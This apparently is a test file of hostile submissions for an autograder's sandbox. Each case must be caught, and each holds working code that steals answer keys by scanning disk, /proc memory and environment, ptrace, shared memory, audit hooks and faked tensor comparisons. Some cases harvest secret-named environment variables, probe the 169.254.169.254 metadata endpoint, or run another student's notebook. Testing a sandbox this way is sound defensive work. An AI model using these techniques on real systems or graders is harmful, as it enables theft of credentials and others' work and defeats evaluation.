"""Stealing references: from disk, modules, frames, the garbage collector, /proc, descriptors, time, other students."""

from pathlib import Path

from tests.checkout import ROOT
from tests.corpus import small
from tests.corpus.hostile.attack import Attack
from tests.corpus.hostile.pieces import ATTEMPT, GIVEN, KEY_THIEF, POOL_THIEF

DISK = r"""
import os, sys, time

def roots():
    yield from (".", "..", "../..", "/autograder", "/autograder/source")
    for module in ("autograder", "otter", "nbgrader", "torch"):
        file = getattr(sys.modules.get(module), "__file__", None)
        if file:
            yield os.path.dirname(file)
            yield os.path.dirname(os.path.dirname(file))
    yield from [entry for entry in sys.path if "site-packages" in entry]
    yield from ("/tmp", "/var/tmp", "@CHECKOUT@", "/home", "/root", "/srv", "/opt", "/mnt", "/data", "/run", "/dev/shm")

def interesting(name):
    return name.endswith((".safetensors", ".pt", ".npz", ".pkl", ".dill", ".db")) or "key" in name or "refer" in name

until = time.monotonic() + 1.3
for root in roots():
    for folder, folders, files in os.walk(root):
        folders[:] = [name for name in folders if name not in ("torch", "proc", "sys", "nvidia", "scipy")]
        for name in filter(interesting, files):
            path = os.path.join(folder, name)
            if (attempt(os.path.getsize, path) or 1 << 40) < 1 << 24:
                attempt(lambda: take(open(path, "rb").read(), path))
        if time.monotonic() > until:
            break
    if time.monotonic() > until:
        break
"""

ORACLE = r"""
import glob, importlib, importlib.util, os, sys, types
loot, found = [], {}

def keep(module, where):
    for name in ("nt_xent", "barlow_twins", "nt_xent_euclidean"):
        function = getattr(module, name, None)
        if callable(function):
            loot.append(f"{where}:{name}")
            found.setdefault(name, function)

# By name, through the package that stays loaded, and with the checkout put back on the path.
package = sys.modules.get("autograder")
checkout = os.path.dirname(os.path.dirname(getattr(package, "__file__", None) or "@CHECKOUT@/autograder/x"))
sys.path[:0] = [checkout, "@CHECKOUT@", "/autograder/source", "/autograder"]
questions = ("nt_xent", "barlow_twins", "nt_xent_euclidean")
for question in ("q1a_nt_xent", "q1b_barlow_twins", "q1c_nt_xent_euclidean"):
    for part in ("oracle", "correct", "mistakes", "question", ""):
        for top in ("kit_course", "solutions"):
            name = f"{top}.simclr.{question}.{part}".rstrip(".")
            attempt(lambda: keep(importlib.import_module(name), name))
for name in ("autograder.questions.pair_losses.mistakes", "tests.corpus.small", "solutions.simclr.master"):
    module = attempt(importlib.import_module, name)
    for text in [value for value in vars(module).values() if isinstance(value, str)] if module else ():
        scope = {}
        attempt(exec, "import torch\nimport torch.nn.functional as F\n" + text, scope)
        keep(types.SimpleNamespace(**scope), name)
# By file: run whatever defines a graded function.
for folder in (checkout, "@CHECKOUT@", "/autograder/source"):
    for path in glob.glob(folder + "/solutions/*/*.py") + glob.glob(folder + "/solutions/*/*/*.py"):
        text = attempt(lambda: open(path).read())
        if text and "def " in text:
            spec = importlib.util.spec_from_file_location("stolen_" + str(len(loot)), path)
            module = importlib.util.module_from_spec(spec)
            attempt(spec.loader.exec_module, module)
            keep(module, path)

def answered(name):
    def function(a, b, parameter):
        if name in found:
            return found[name](a, b, parameter)
        raise LookupError("STOLEN " + repr(loot)[:500] if loot else "there was nothing to steal")
    return function
nt_xent, barlow_twins, nt_xent_euclidean = map(answered, questions)
"""

FRAMES = r"""
import inspect, sys

def tensors_of(value, depth=0):
    if isinstance(value, torch.Tensor):
        yield value
    elif depth < 4 and isinstance(value, dict):
        for item in list(value.values()):
            yield from tensors_of(item, depth + 1)
    elif depth < 4 and isinstance(value, (list, tuple)) and len(value) < 500:
        for item in value:
            yield from tensors_of(item, depth + 1)
    elif depth < 3 and hasattr(value, "__dict__") and not isinstance(value, type(sys)):
        yield from tensors_of(vars(value), depth + 1)

def pool():
    # Variables of all callers, innermost first, and of the notebook's own namespace.
    frames = [entry.frame for entry in (attempt(inspect.stack, 0) or ())][2:]
    frames += list(sys._current_frames().values())
    for frame in frames:
        yield from tensors_of(dict(frame.f_locals))
        yield from tensors_of(dict(frame.f_globals))
"""

COLLECTOR = r"""
import gc

before = {id(thing) for thing in gc.get_objects()}

def pool():
    for thing in gc.get_objects():
        if isinstance(thing, torch.Tensor):
            yield thing
        for referrer in (gc.get_referrers(thing)[:3] if type(thing).__name__ in ("KeyCase", "Case", "TestCase") else ()):
            yield from (value for value in gc.get_referents(referrer) if isinstance(value, torch.Tensor))
    # Tensors are no containers: what holds them is.
    for thing in gc.get_objects():
        if isinstance(thing, (dict, list, tuple)):
            yield from (value for value in gc.get_referents(thing) if isinstance(value, torch.Tensor))
"""

PROC = r"""
import glob, os, re

def windows(pid, most=1 << 26):
    maps = attempt(lambda: open(f"/proc/{pid}/maps").read()) or ""
    with open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for start, end in re.findall(r"^(\w+)-(\w+) rw", maps, re.M):
            start, end = int(start, 16), int(end, 16)
            if most <= 0:
                return
            memory.seek(start)
            piece = attempt(memory.read, min(end - start, 1 << 24)) or b""
            most -= len(piece)
            yield piece

def key_in(piece):
    for hit in re.finditer(rb'\{"__metadata__"', piece):
        yield piece[max(0, hit.start() - 8):]

for pid in [os.getppid()] + [int(p.rsplit("/", 1)[1]) for p in glob.glob("/proc/[0-9]*")]:
    if pid == os.getpid():
        continue
    for piece in attempt(lambda: list(windows(pid))) or ():
        loot.append(f"memory of {pid}")
        for data in key_in(piece):
            attempt(take, data, pid)
    if attempt(lambda: open(f"/proc/{pid}/environ", "rb").read()):
        loot.append(f"environment of {pid}")
    for name in ("fd", "root", "cwd", "exe", "map_files"):
        for path in glob.glob(f"/proc/{pid}/{name}/*"):
            target = attempt(os.readlink, path)
            data = attempt(lambda: open(path, "rb").read(1 << 24)) if os.path.isfile(path) else None
            if data and name == "fd":
                loot.append(f"{path} -> {target}")
            attempt(take, data, path)
"""

OWN_MEMORY = r"""
import re, time

# Structure and hints of a key; the patterns do not match themselves.
patterns = (rb'"misconception[s]": \[\{"harmles[s]"', rb'The sign is flippe[d]: training', rb'"referenc[e]": \{"')
until = time.monotonic() + 1.2
maps = open("/proc/self/maps").read() if attempt(open, "/proc/self/maps") else ""
with open("/proc/self/mem", "rb", 0) as memory:
    for start, end in re.findall(r"^(\w+)-(\w+) rw", maps, re.M):
        start, end = int(start, 16), int(end, 16)
        memory.seek(start)
        piece = attempt(memory.read, min(end - start, 1 << 25)) or b""
        loot += [hit[0] for hit in (re.search(pattern, piece) for pattern in patterns) if hit]
        for hit in re.finditer(rb'\{"__meta' + b'data__"', piece):
            attempt(take, piece[max(0, hit.start() - 8):], "own memory")
        if time.monotonic() > until:
            break
"""

DESCRIPTORS = r"""
import os, stat

for descriptor in range(0, 1024):
    status = attempt(os.fstat, descriptor)
    if status is None:
        continue
    link = attempt(os.readlink, f"/proc/self/fd/{descriptor}") or ""
    if stat.S_ISREG(status.st_mode) or stat.S_ISDIR(status.st_mode):
        data = attempt(os.pread, descriptor, 1 << 24, 0)
        if data or stat.S_ISDIR(status.st_mode):
            loot.append(f"descriptor {descriptor}: {link}")
        attempt(take, data, link)
        for name in attempt(os.listdir, descriptor) or ():
            attempt(lambda: take(os.read(os.open(name, 0, dir_fd=descriptor), 1 << 24), name))
"""

SHARED = r"""
import ctypes, glob, os
from multiprocessing import shared_memory

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
for path in glob.glob("/dev/shm/*") + glob.glob("/dev/mqueue/*") + glob.glob("/run/*.lock") + glob.glob("/tmp/*"):
    data = attempt(lambda: open(path, "rb").read(1 << 24))
    if data:
        loot.append(path)
        attempt(take, data, path)
for identity in range(2000):
    address = libc.shmat(identity, None, 0o10000)
    if address not in (None, ctypes.c_void_p(-1).value):
        loot.append(f"segment {identity}")
        attempt(lambda: take(ctypes.string_at(address, 4096), identity))
for line in (attempt(lambda: open("/proc/sysvipc/shm").read().splitlines()[1:]) or ()):
    loot.append("sysvipc " + line)
"""

ENVIRONMENT = r"""
import builtins, os, sys
texts = dict(os.environ)
raw = attempt(lambda: open("/proc/self/environ", "rb").read().decode()) or ""
texts.update(entry.partition("=")[::2] for entry in raw.split("\0") if "=" in entry)
texts["argv"] = repr(sys.argv) + repr(getattr(sys, "orig_argv", ""))
texts["cmdline"] = (attempt(lambda: open("/proc/self/cmdline", "rb").read().decode()) or "")
for name, text in texts.items():
    for word in text.replace("\0", ":").replace('"', ":").split(":"):
        for folder, _, files in os.walk(word) if word.startswith("/") and "lib" not in word and len(word) > 1 else ():
            for file in files[:200]:
                if "key" in file or file.endswith((".safetensors", ".pt")):
                    attempt(lambda: take(open(os.path.join(folder, file), "rb").read(1 << 24), file))
    if any(secret in name.upper() for secret in ("TOKEN", "SECRET", "PASSWORD", "API_KEY", "CREDENTIAL")):
        loot.append(f"{name}={text}")
"""

TIMING = r"""
import os, sys, time
asked, times = {}, []

def nt_xent(a, b, parameter):
    # A tester that compares element by element answers later the nearer the guess is: guess, measure, be asked again.
    now = time.monotonic()
    times.append(now)
    question = float(a.sum())
    low, high, last = asked.get(question, (0.0, 20.0, now))
    guess = (low + high) / 2
    asked[question] = (guess, high, now) if now - last > 1e-4 else (low, guess, now)
    for _ in range(3):
        # Raise once, then answer: is a question that failed asked again?
        if question not in asked or len(times) % 2:
            raise TimeoutError("ask me again")
    return (a * b).sum() * 0 + guess
barlow_twins = nt_xent_euclidean = nt_xent
"""

ASKED_AGAIN = r"""
import os
# Every question is remembered on disk, then the process dies: is the same question asked again, with other inputs?
def nt_xent(a, b, parameter):
    tried = len(attempt(os.listdir, "tried") or ())
    attempt(os.makedirs, f"tried/{tried}")
    if tried < 3:
        os._exit(1)
    return (a * b).sum() * 0 + tried / 10
barlow_twins = nt_xent_euclidean = nt_xent
"""

TRACING = r"""
import sys, threading
seen = []

def spy(frame, event, argument):
    # Every variable of every frame that runs from now on, in every thread, but for those of torch.
    if "/torch/" in frame.f_code.co_filename:
        return None
    for value in list(frame.f_locals.values()) + [argument]:
        if isinstance(value, torch.Tensor) and len(seen) < 5000:
            seen.append(value)
    return spy
calls = []
def pool():
    calls.append(1)
    if len(calls) > 6:  # tracing is slow, and six questions show what there is to see
        sys.settrace(None)
        sys.setprofile(None)
        return list(seen)
    frame = sys._getframe(1)
    while frame is not None:
        frame.f_trace = spy
        frame = frame.f_back
    return list(seen)
threading.settrace(spy)
threading.setprofile(spy)
sys.setprofile(spy)
sys.settrace(spy)
"""

AUDIT = r"""
import builtins, io, os, sys
paths = []

def hook(event, arguments):
    # Every file that this interpreter opens, and every module that it imports.
    if event in ("open", "import", "os.listdir", "marshal.loads", "pickle.find_class") and arguments:
        paths.append(arguments[0])
sys.addaudithook(hook)
class Finder:
    def find_spec(self, name, path=None, target=None):
        paths.append(path)
sys.meta_path.insert(0, Finder())
opened = builtins.open
def spying_open(file, *a, **k):
    paths.append(file)
    return opened(file, *a, **k)
builtins.open = io.open = spying_open
real = nt_xent
def nt_xent(a, b, parameter):
    for path in [p for p in paths if isinstance(p, (str, bytes)) and not str(p).startswith("/proc")][-200:]:
        data = attempt(lambda: opened(path, "rb").read(1 << 24))
        attempt(take, data, path)
    return real(a, b, parameter)
"""

OPERATORS = r"""
from torch.utils._python_dispatch import TorchDispatchMode
seen = []
class Spy(TorchDispatchMode):
    # Every tensor that any operator of this process touches.
    def __torch_dispatch__(self, function, types, args=(), kwargs=None):
        result = function(*args, **(kwargs or {}))
        for value in [*args, result]:
            if isinstance(value, torch.Tensor) and len(seen) < 5000:
                seen.append(value.detach())
        return result
torch.nn.modules.module.register_module_forward_hook(lambda module, given, result: seen.append(result))
attempt(torch.serialization.add_safe_globals, [print])
Spy().__enter__()
def pool():
    return list(seen)
"""

OPERANDS = r"""
import torch
expected = {}
class Spy(torch.Tensor):
    # The first comparison tells what was expected; the same question is then answered with it.
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        name = getattr(function, "__name__", "")
        if name in ("allclose", "isclose", "equal", "eq", "__eq__", "sub", "__sub__", "rsub"):
            for value in args:
                if isinstance(value, torch.Tensor) and type(value) is not cls:
                    expected[tuple(value.shape)] = value
                    return True if name in ("allclose", "equal") else torch.zeros_like(value)
        return super().__torch_function__(function, types, args, kwargs or {})
def pool():
    return list(expected.values())
thief = nt_xent
def nt_xent(a, b, parameter):
    if expected:
        return thief(a, b, parameter)
    return (a * b).sum().as_subclass(Spy)
barlow_twins = nt_xent_euclidean = nt_xent
"""

SOURCES = r"""
import inspect, linecache, os, re, sys, traceback
def texts():
    for entry in list(linecache.cache.values()):
        if len(entry) > 2 and entry[2]:
            yield "".join(entry[2])
    for name, module in list(sys.modules.items()):
        if name.startswith(("autograder", "tests", "otter_test", "__mp_main__", "__main__")):
            yield attempt(inspect.getsource, module) or ""
            yield "".join(v for v in vars(module).values() if isinstance(v, str))
    for thread, frame in sys._current_frames().items():
        yield "".join(traceback.format_stack(frame))
        while frame:
            yield attempt(lambda: open(frame.f_code.co_filename).read()) or ""
            frame = frame.f_back
def during():
    # Numbers that stand beside words of a test.
    for text in texts():
        for line in text.splitlines():
            if re.search(r"(expected|reference|want|allclose).*[-\d.]{6,}", line):
                numbers = re.findall(r"\d+\.\d{3,}", line)
                if numbers:
                    return float(numbers[0])
    return 0.0
numbers_found = []
def nt_xent(a, b, parameter):
    if not numbers_found or len(numbers_found) < 2 and a.requires_grad:
        numbers_found.append(during())
    return (a * b).sum() * 0 + numbers_found[-1]
barlow_twins = nt_xent_euclidean = nt_xent
"""

PTRACE = r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
class Window(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
parent = os.getppid()
buffer = ctypes.create_string_buffer(1 << 16)
for line in (attempt(lambda: open("/proc/self/maps").read()) or "").splitlines():
    # A forked parent has its memory where this process has it.
    start, end = (int(part, 16) for part in line.split()[0].split("-"))
    if " rw" in line:
        mine, theirs = Window(ctypes.addressof(buffer), 1 << 16), Window(start, min(end - start, 1 << 16))
        if libc.process_vm_readv(parent, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) > 0:
            loot.append(f"memory of the parent at {start:x}")
            attempt(take, buffer.raw, "parent")
if parent > 1 and libc.ptrace(16, parent, None, None) == 0:  # PTRACE_ATTACH
    loot.append("attached to the parent")
    libc.ptrace(17, parent, None, None)
"""

NETWORK = r"""
import glob, socket
targets = [("127.0.0.1", port) for port in (22, 80, 443, 5000, 8000, 8080, 8888)] + [("169.254.169.254", 80), ("1.1.1.1", 53)]
socket.setdefaulttimeout(0.1)
for address in targets:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        link = attempt(socket.socket, socket.AF_INET, kind)
        if link is not None and kind == socket.SOCK_STREAM and link.connect_ex(address) == 0:
            loot.append(f"connected to {address}")
for path in glob.glob("/run/**/*.sock", recursive=True) + glob.glob("/tmp/**/*sock*", recursive=True):
    link = attempt(socket.socket, socket.AF_UNIX)
    if link is not None and link.connect_ex(path) == 0:
        loot.append(f"connected to {path}")
"""

NEIGHBOUR = r"""
import glob, json, os
# The submission of somebody who sat beside: run its cells.
for pattern in @PLACES@:
    for path in glob.glob(pattern, recursive=True)[:50]:
        notebook = attempt(lambda: json.load(open(path))) or {}
        for cell in notebook.get("cells", ()):
            text = "".join(cell.get("source", ""))
            if text.lstrip().startswith(("import torch", "def nt_xent", "def barlow")):
                loot.append(path)
                attempt(exec, text, globals())
"""


def beside_a_neighbour(folder: Path) -> Path:
    """The thief's submission, with a right one in a folder beside it; the thief knows where."""
    small.hand_in(folder / "neighbour", small.HONEST)
    places = [
        str(folder / "neighbour" / "*.ipynb"),
        "/tmp/*/submission/*.ipynb",
        "../../*/work/*.ipynb",
        "../*/*.ipynb",
    ]
    cells = (ATTEMPT, KEY_THIEF, NEIGHBOUR.replace("@PLACES@", repr(places)))
    return small.hand_in(folder / "thief", cells)


def thief(id: str, tries: str, must_not: str, search: str) -> Attack:
    """A case that answers from whatever answer key its search finds."""
    return Attack(id, tries, must_not, (ATTEMPT, KEY_THIEF, search))


def guesser(id: str, tries: str, must_not: str, pool: str) -> Attack:
    """A case that answers from tensors that lie about in its own process."""
    return Attack(id, tries, must_not, (ATTEMPT, POOL_THIEF, pool))


ATTACKS = (
    thief(
        "disk",
        "Searches the disk, from the working folder to the grader's package, for answer keys and answers from them.",
        "A reference can be read.",
        DISK.replace("@CHECKOUT@", str(ROOT)),
    ),
    Attack(
        "oracle",
        "Imports the oracle, right variants and solution by name, by path and by file, and calls them.",
        "Code that holds answers can be read or imported.",
        (ATTEMPT, GIVEN, ORACLE.replace("@CHECKOUT@", str(ROOT))),
    ),
    guesser(
        "frames",
        "Walks the frames of its callers, of all threads and the notebook's namespace for expected tensors.",
        "A reference lies in a frame of the student's process.",
        FRAMES,
    ),
    guesser(
        "garbage-collector",
        "Asks the garbage collector for every tensor and for what refers to test cases.",
        "A reference lies in the student's process.",
        COLLECTOR,
    ),
    thief(
        "proc",
        "Reads memory, maps, environment and open files of the parent and every other process in /proc.",
        "The memory or environment of a trusted process can be read.",
        PROC,
    ),
    thief(
        "own-memory",
        "Scans its own memory for what the parent loaded before it forked.",
        "A key, a hint or its structure was in memory at the time of the fork.",
        OWN_MEMORY,
    ),
    thief(
        "inherited-descriptors",
        "Reads every inherited file descriptor and lists every folder among them.",
        "A descriptor of the grader is inherited.",
        DESCRIPTORS,
    ),
    thief(
        "shared-memory",
        "Reads /dev/shm, /tmp, message queues and attaches every System V segment.",
        "Something of the grader or of another submission is shared.",
        SHARED,
    ),
    thief(
        "environment",
        "Reads environment and command line, and searches the folders that they name.",
        "The environment holds a secret or the way to one.",
        ENVIRONMENT,
    ),
    Attack(
        "timing",
        "Measures the time between two questions and moves its guess by it, and fails in order to be asked again.",
        "A question is asked twice, or its answer can be measured.",
        (ATTEMPT, TIMING),
    ),
    Attack(
        "asked-again",
        "Dies at every question and remembers on disk what it has tried, to be asked again after the restart.",
        "A question whose session was lost is asked again.",
        (ATTEMPT, ASKED_AGAIN),
    ),
    guesser(
        "tracing",
        "Traces and profiles every frame of every thread and keeps all tensors that it sees.",
        "A comparison runs where it can be traced.",
        TRACING,
    ),
    thief(
        "audit-hooks",
        "Watches by audit hook, import hook and a patched open which files the grader opens, and reads them.",
        "A trusted file is opened in the student's process.",
        AUDIT,
    ),
    guesser(
        "operator-hooks",
        "Watches all operators of its process by a dispatch mode and global module hooks.",
        "An operator works on a reference in the student's process.",
        OPERATORS,
    ),
    guesser(
        "spying-operand",
        "Returns a subclass that takes the other operand of the comparison and answers later questions with it.",
        "A student's object meets a reference in a comparison.",
        OPERANDS,
    ),
    Attack(
        "sources",
        "Looks in linecache, tracebacks, module sources and the files of its callers for expected numbers.",
        "A test's source is loaded or readable beside student code.",
        (ATTEMPT, "import torch", SOURCES),
    ),
    thief(
        "ptrace",
        "Traces its parent and reads its memory by process_vm_readv.",
        "A trusted process can be traced or read.",
        PTRACE,
    ),
    thief(
        "network",
        "Connects to local ports, to local sockets in the file system and to the outside.",
        "A connection is made.",
        NETWORK,
    ),
    Attack(
        "neighbour",
        "Looks for a right submission of another student on the same machine and runs its cells.",
        "The submission of another student can be read.",
        build=beside_a_neighbour,
    ),
)
